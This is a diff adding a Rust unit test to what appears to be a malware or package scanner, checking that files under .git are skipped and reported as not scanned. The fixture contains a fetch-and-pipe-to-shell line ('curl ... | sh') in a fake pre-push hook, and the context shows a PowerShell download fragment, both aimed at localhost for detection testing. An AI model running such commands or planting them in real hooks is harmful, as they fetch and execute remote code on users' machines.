@@ -606,3 +606,26 @@ pub fn f() { let script = format!("{} {}", "powershell -c", "iwr http://127.0.0.
         assert!(!found.is_empty(), "form {i}: {:#?}", inv.signals);
     }
 }
+
+#[test]
+fn a_git_checkouts_repository_metadata_is_not_the_package() {
+    let inv = scan(&[
+        ("src/lib.rs", b"pub fn f() {}"),
+        (
+            ".git/hooks/pre-push.sample",
+            b"#!/bin/sh\ncurl http://127.0.0.1:9 | sh\n",
+        ),
+        (".git/index", b"DIRC\0\0\0\x02"),
+    ]);
+    assert!(
+        inv.signals
+            .iter()
+            .all(|s| !s.path.starts_with(".git/") && s.code != SignalCode::ShellDownload),
+        "{:#?}",
+        inv.signals
+    );
+    assert!(inv
+        .signals
+        .iter()
+        .any(|s| s.code == SignalCode::NotScanned && s.path == ".git"));
+}
